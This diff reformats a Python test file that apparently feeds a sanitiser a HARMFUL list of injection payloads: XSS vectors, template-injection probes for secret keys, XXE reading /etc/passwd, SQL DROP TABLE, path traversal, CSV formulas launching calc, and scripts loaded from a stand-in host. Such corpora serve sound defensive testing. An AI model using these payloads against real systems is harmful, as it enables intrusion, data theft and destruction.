@@ -7,7 +7,18 @@ parts, since what matters is the joint.
 HARMLESS = "harmless"
 
 _DO = "window.__xss=1"
-_EVENTS = "onload onerror onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onbegin onscroll".split()
+_EVENTS = [
+    "onload",
+    "onerror",
+    "onclick",
+    "onfocus",
+    "onmouseover",
+    "onpointerenter",
+    "onanimationstart",
+    "ontoggle",
+    "onbegin",
+    "onscroll",
+]
 _SELF_RUNNING = [
     f"<img src=x onerror={_DO}>",
     f"<img src=x:x onerror={_DO}//",
@@ -17,7 +28,7 @@ _SELF_RUNNING = [
     f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
     f"<svg><a xlink:href=javascript:{_DO}><text x=20 y=20>x</text></a>",
     f"<svg><foreignObject><body onload={_DO}>",
-    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
     f"<body onload={_DO}>",
     f"<body onpageshow={_DO}>",
     f"<input autofocus onfocus={_DO}>",
@@ -32,7 +43,7 @@ _SELF_RUNNING = [
     f"<object data='data:text/html,<script>{_DO}</script>'>",
     f"<embed src=javascript:{_DO}>",
     f"<iframe src=javascript:{_DO}>",
-    f"<iframe srcdoc='<script>parent.__xss=1</script>'>",
+    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
     f"<iframe onload={_DO}>",
     f"<form action=javascript:{_DO}><button autofocus>x",
     f"<button formaction=javascript:{_DO}>x",
@@ -62,51 +73,141 @@ _SCRIPTS = [
     f"<script >{_DO}</script >",
     f"<script\n>{_DO}</script\n>",
     f"<script/x>{_DO}</script>",
-    f"<script src=//elsewhere.example/x.js></script>",
+    "<script src=//elsewhere.example/x.js></script>",
     f"<script src=data:,{_DO}></script>",
     f"<script type=module>{_DO}</script>",
     f"<<script>{_DO}//<</script>",
     f"<scr<script>ipt>{_DO}</scr</script>ipt>",
     f"</script><script>{_DO}</script>",
-    f"<script>alert`1`</script>",
-    f"<script>alert(1)</script>",
-    f"<script>top['al'+'ert'](1)</script>",
-    f"<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
+    "<script>alert`1`</script>",
+    "<script>alert(1)</script>",
+    "<script>top['al'+'ert'](1)</script>",
+    "<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
     f"<script>setTimeout('{_DO}')</script>",
-    f"<script>\\u0077indow.__xss=1</script>",
+    "<script>\\u0077indow.__xss=1</script>",
 ]
 _OUT_OF = ["'", '"', "`", "'>", '">', "`>", "</", "-->", "]]>", "*/", "//", ");", "};", "\\", "</title>", "</textarea>"]
-_OUT_OF += ["</style>", "</option></select>", "</svg>", "</bdi>", "</time>", "</a>", "</button>", "</template>", "</h1>"]
+_OUT_OF += [
+    "</style>",
+    "</option></select>",
+    "</svg>",
+    "</bdi>",
+    "</time>",
+    "</a>",
+    "</button>",
+    "</template>",
+    "</h1>",
+]
 _BREAKING = [f"{out}<img src=x onerror={_DO}>" for out in _OUT_OF]
 _ATTRIBUTES = [f"{quote} {event}={_DO} x={quote}" for event in _EVENTS for quote in ("'", '"')]
 _ATTRIBUTES += [f'" style=animation-name:x autofocus tabindex=0 onfocus={_DO} "', "' href='javascript:alert(1)'"]
 _ATTRIBUTES += ['" id=main class=wrong hidden "', '" formaction=javascript:alert(1) "', '" http-equiv=refresh "']
 _ADDRESSES = [
     *(f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f"java\nscript:{_DO}", f" javascript:{_DO}", f"javascript://%0a{_DO}"),
-    *(f"vbscript:{_DO}", f"data:text/html,<script>{_DO}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"),
-    *("//elsewhere.example/", "https://elsewhere.example/", "\\\\elsewhere.example", "/\\elsewhere.example", "?at=2020-01-01"),
+    *(
+        f"vbscript:{_DO}",
+        f"data:text/html,<script>{_DO}</script>",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
+    ),
+    *(
+        "//elsewhere.example/",
+        "https://elsewhere.example/",
+        "\\\\elsewhere.example",
+        "/\\elsewhere.example",
+        "?at=2020-01-01",
+    ),
 ]
 _TEMPLATES = [
     *("{{ 7|add:7 }}", "{{ settings.SECRET_KEY }}", "{{ request.META }}", "{% load static %}", "{% debug %}"),
-    *("{% include 'base.html' %}", "{% autoescape off %}", "{% endblock %}", "{# #}", "{{constructor.constructor('alert(1)')()}}"),
-    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "%(name)s", "%s%s%s%n", "{0.__class__}", "{name}", "__import__('os')", "$(id)", "`id`"),
+    *(
+        "{% include 'base.html' %}",
+        "{% autoescape off %}",
+        "{% endblock %}",
+        "{# #}",
+        "{{constructor.constructor('alert(1)')()}}",
+    ),
+    *(
+        "${7*7}",
+        "#{7*7}",
+        "<%= 7*7 %>",
+        "[[7*7]]",
+        "%(name)s",
+        "%s%s%s%n",
+        "{0.__class__}",
+        "{name}",
+        "__import__('os')",
+        "$(id)",
+        "`id`",
+    ),
 ]
 _ENTITIES = [
-    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;b&amp;gt;"),
-    *("&lt", "&#0;", "&#x00;", "&#xD800;", "&#128;", "&quot; onload=&quot;", "&apos;", "&nosuch;", "&Tab;&NewLine;", "&lpar;"),
+    *(
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;",
+        "&#x3c;img src=x onerror=alert(1)&#x3e;",
+        "&amp;lt;b&amp;gt;",
+    ),
+    *(
+        "&lt",
+        "&#0;",
+        "&#x00;",
+        "&#xD800;",
+        "&#128;",
+        "&quot; onload=&quot;",
+        "&apos;",
+        "&nosuch;",
+        "&Tab;&NewLine;",
+        "&lpar;",
+    ),
 ]
 _ESCAPES = [
-    *("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E"),
-    *("＜script＞alert(1)＜/script＞", "‹script›", "ʺ onload=alert(1) ʺ", "<ſcript>alert(1)</ſcript>", "<İmg src=x onerror=alert(1)>"),
-    *("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\u3000img src=x onerror=alert(1)>", "<img\u00a0src=x onerror=alert(1)>"),
+    *(
+        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+        "\\x3cscript\\x3e",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "%253Cscript%253E",
+    ),
+    *(
+        "＜script＞alert(1)＜/script＞",
+        "‹script›",
+        "ʺ onload=alert(1) ʺ",
+        "<ſcript>alert(1)</ſcript>",
+        "<İmg src=x onerror=alert(1)>",
+    ),
+    *(
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+        "<\u3000img src=x onerror=alert(1)>",
+        "<img\u00a0src=x onerror=alert(1)>",
+    ),
 ]
 _COMMENTS = [
-    *(f"<!--><img src=x onerror={_DO}>-->", f"<!--<img src='--><img src=x onerror={_DO}>'>", "<!--", "-->", "<![CDATA[", "]]>"),
-    *(f"<![CDATA[<script>{_DO}</script>]]>", f"<!--[if gte IE 4]><script>{_DO}</script><![endif]-->", "<?xml version='1.0'?>"),
-    *(f"<?xml-stylesheet href='javascript:{_DO}'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<!x>", "<?", "</"),
+    *(
+        f"<!--><img src=x onerror={_DO}>-->",
+        f"<!--<img src='--><img src=x onerror={_DO}>'>",
+        "<!--",
+        "-->",
+        "<![CDATA[",
+        "]]>",
+    ),
+    *(
+        f"<![CDATA[<script>{_DO}</script>]]>",
+        f"<!--[if gte IE 4]><script>{_DO}</script><![endif]-->",
+        "<?xml version='1.0'?>",
+    ),
+    *(
+        f"<?xml-stylesheet href='javascript:{_DO}'?>",
+        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+        "<!x>",
+        "<?",
+        "</",
+    ),
 ]
 _STYLES = [
-    *(f"<style>@import'//elsewhere.example/x.css'</style>", "<style>*{display:none}</style>", "<div style=position:fixed;inset:0>"),
+    *(
+        "<style>@import'//elsewhere.example/x.css'</style>",
+        "<style>*{display:none}</style>",
+        "<div style=position:fixed;inset:0>",
+    ),
     *("<p style=\"background:url('javascript:alert(1)')\">", "<style>@keyframes x{}</style>", "</style><style>"),
     *("<div style=x:expression(alert(1))>", "<link rel=preload as=style href=//elsewhere.example>"),
 ]
@@ -115,7 +216,7 @@ _POLYGLOTS = [
     "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
     "\"'--></style></script><svg onload=alert(1)>",
     "'\"></title><img src=x onerror=alert(1)>",
-    "\"><svg/onload=alert(1)>'\"`--!><!--",
+    '"><svg/onload=alert(1)>\'"`--!><!--',
     "';alert(1);'\";alert(1);\"</script><script>alert(1)</script>",
     "<svg><style><img src='</style><img src=x onerror=alert(1)>'>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
@@ -126,12 +227,21 @@ _POLYGLOTS = [
     "' OR 1=1 --",
     "1;DROP TABLE web_entryrow",
     "../../../../etc/passwd",
-    "=HYPERLINK(\"//elsewhere.example\")",
+    '=HYPERLINK("//elsewhere.example")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
 ]
 HARMFUL = list(
     dict.fromkeys(
-        _SCRIPTS + _SELF_RUNNING + _BREAKING + _ATTRIBUTES + _ADDRESSES + _TEMPLATES + _ENTITIES + _ESCAPES + _COMMENTS
-        + _STYLES + _POLYGLOTS
+        _SCRIPTS
+        + _SELF_RUNNING
+        + _BREAKING
+        + _ATTRIBUTES
+        + _ADDRESSES
+        + _TEMPLATES
+        + _ENTITIES
+        + _ESCAPES
+        + _COMMENTS
+        + _STYLES
+        + _POLYGLOTS
     )
 )
